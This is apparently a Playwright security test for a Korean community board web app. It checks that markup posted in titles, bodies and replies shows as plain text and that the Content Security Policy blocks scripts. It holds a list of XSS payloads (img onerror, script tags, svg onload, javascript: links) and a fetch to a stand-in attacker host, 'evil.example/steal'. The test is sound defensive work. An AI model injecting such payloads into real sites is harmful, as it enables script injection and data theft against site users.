import { expectComments } from '../testing/comments.ts';
import { expect, test } from '../testing/fixtures.ts';
import { screenName } from '../testing/reading.ts';
import { cardTitles } from '../testing/screens.ts';

const hostile = [
  '<img src=x onerror="window.taken = 1">',
  '<script>window.taken = 1</script>',
  '"><svg onload=window.taken=1>',
  "javascript:window.taken=1//'",
  '[글](javascript:window.taken=1)',
];

test('[SF-18] markup in any text field is shown as text, and the content policy blocks injected scripts', async ({
  page,
  makers,
  user,
  watch,
}) => {
  const text = hostile.join(' ');
  const title = text.slice(0, 100);
  const post = await makers.post(user, { board: 'engineering-hall', title, body: hostile.join('\n') });
  await makers.reply(user, post.id, text);
  await page.goto('/building/engineering-hall');
  await expect(cardTitles(page).filter({ hasText: title })).toHaveCount(1);
  const response = await page.goto(`/post/${post.id}`);
  await expect(screenName(page)).toHaveText(title);
  await expect(page.getByRole('article')).toContainText(hostile.join('\n'));
  await expectComments(page, [text]);
  await expect(page).toHaveTitle(`${title} · 마당`);
  expect(await page.evaluate(() => 'taken' in window)).toBe(false);
  await expect(
    page.locator('main img[src="x"], main script, main [onload], main a[href^="javascript"]'),
  ).toHaveCount(0);

  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toContain('unsafe');
  watch.allow(/Content Security Policy|content security policy/i);
  const outcome = await page.evaluate(async () => {
    const refused: string[] = [];
    const both = new Promise<void>((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => {
        refused.push(event.effectiveDirective);
        if (refused.length === 2) resolve();
      });
    });
    const script = document.createElement('script');
    script.textContent = 'window.taken = 1';
    document.body.append(script);
    const asked = await fetch('https://evil.example/steal').then(
      () => 'sent',
      () => 'stopped',
    );
    await both;
    return { refused: refused.toSorted(), asked, taken: 'taken' in window };
  });
  expect(outcome).toEqual({ refused: ['connect-src', 'script-src-elem'], asked: 'stopped', taken: false });
});
